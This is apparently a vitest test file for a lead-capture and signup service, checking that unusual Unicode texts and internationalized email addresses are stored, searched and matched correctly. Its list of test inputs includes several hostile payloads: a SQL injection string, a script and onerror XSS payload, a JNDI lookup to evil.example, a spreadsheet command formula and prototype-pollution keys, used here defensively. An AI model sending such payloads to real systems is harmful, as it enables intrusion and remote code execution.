import { expect, test } from 'vitest';
import { PASSWORD } from './accounts.ts';
import { RIGHT, world } from './bad-input-world.ts';
import { rowOf } from './rows.ts';

/**
 * Texts that look wrong but are right: no visitor is refused for the spelling of a name or the content of a message.
 */
const TEXTS: readonly (readonly [name: string, text: string])[] = [
  ['Thai marks on each other', 'ก็็็็็่่่่่้้้้้๊๊๊๊๊'],
  ['a Thai mark that begins', 'ำก่อน'],
  ['Thai with SARA AM in two parts', 'นํ้า'],
  ['an accent typed apart, a ligature and a fraction', 'É ﬁ ½'],
  ['marks without end', `Z${'\u0301\u0316\u0334'.repeat(30)}`],
  ['emoji of many parts', '👩‍👩‍👧‍👦🏴‍☠️🇹🇭👍🏽1️⃣'],
  ['joiners between letters', 'می\u200cخواهم ශ්\u200dරී'],
  ['Arabic and Hebrew', 'مرحبا שלום'],
  ['noncharacters', 'a\ufffe\uffff\u{10ffff}b'],
  ['SQL', `Robert'); drop table lead; --`],
  ['HTML', '<script>alert("1")</script><img src=x onerror=alert(1)>'],
  ['a lookup', '$' + '{jndi:ldap://evil.example/a}'],
  ['a formula', '=cmd|"/c calc"!A1'],
  ['the names of objects', '__proto__ constructor prototype'],
  ['quotes', `"'\`´‘’“”`],
  ['backslashes', '\\\\n\\0\\u0000'],
];

/** Returns a text as it is stored (thai.md 9). */
const stored = (text: string) => text.trim().normalize('NFC');

test('stores an odd text as sent and finds it again', async () => {
  const { send, store, tokens } = await world();
  const headers = { authorization: `Bearer ${tokens.admin}` };
  for (const [index, [name, text]] of TEXTS.entries()) {
    const message = `${text}\n\t${text}`;
    const sent = message.replace('\n', '\r\n');
    const body = {
      ...RIGHT.sendLead.body,
      email: `odd${index}@b.example`,
      name: text,
      message: sent,
    };
    expect([name, (await send('sendLead', { body })).statusCode]).toEqual([name, 201]);
    const row = await rowOf(store, 'lead', { email: body.email });
    expect([name, row]).toMatchObject([name, { name: stored(text), message: stored(message) }]);
    const query = `state=all&search=${encodeURIComponent(text)}`;
    const found = (await send('inbox', { headers, query })).json();
    expect([name, found.leads?.map((lead: { email: string }) => lead.email)]).toEqual([
      name,
      expect.arrayContaining([body.email]),
    ]);
  }
  expect((await send('inboxCsv', { headers, query: 'state=all' })).statusCode).toBe(200);
});

test('treats spellings of an address at a Thai domain as one account', async () => {
  const { send, tokens } = await world();
  const thai = { ...RIGHT.signup.body, email: 'มาลี@ไทย.ไทย' };
  expect((await send('signup', { body: thai })).json().fields).toEqual({
    email: { code: 'unsupported_email' },
  });
  const [shown, ...others] = [
    'malee@ไทย.ไทย',
    'MALEE@xn--o3cw4h.XN--O3CW4H',
    '<malee@ไทย\u200b.ไทย>',
  ];
  const signupWith = (email: string) => ({ body: { ...RIGHT.signup.body, email } });
  expect((await send('signup', signupWith(shown ?? ''))).statusCode).toBe(200);
  for (const email of others) {
    expect((await send('signup', signupWith(email))).json().message).toBe('User Already Exists');
    const login = await send('login', { body: { email, password: PASSWORD } });
    expect([email, login.json().email]).toEqual([email, shown]);
    const headers = { authorization: `Bearer ${login.json().token}` };
    expect((await send('me', { headers })).json().email).toBe(shown);
  }
  await send('sendLead', { body: { ...RIGHT.sendLead.body, email: shown } });
  const headers = { authorization: `Bearer ${tokens.admin}` };
  for (const search of ['ee@ไทย.ไทย', 'ไทย.ไทย', 'xn--o3cw4h']) {
    const query = `search=${encodeURIComponent(search)}`;
    const { leads } = (await send('inbox', { headers, query })).json();
    expect([search, leads[0]?.email]).toEqual([search, shown]);
  }
});
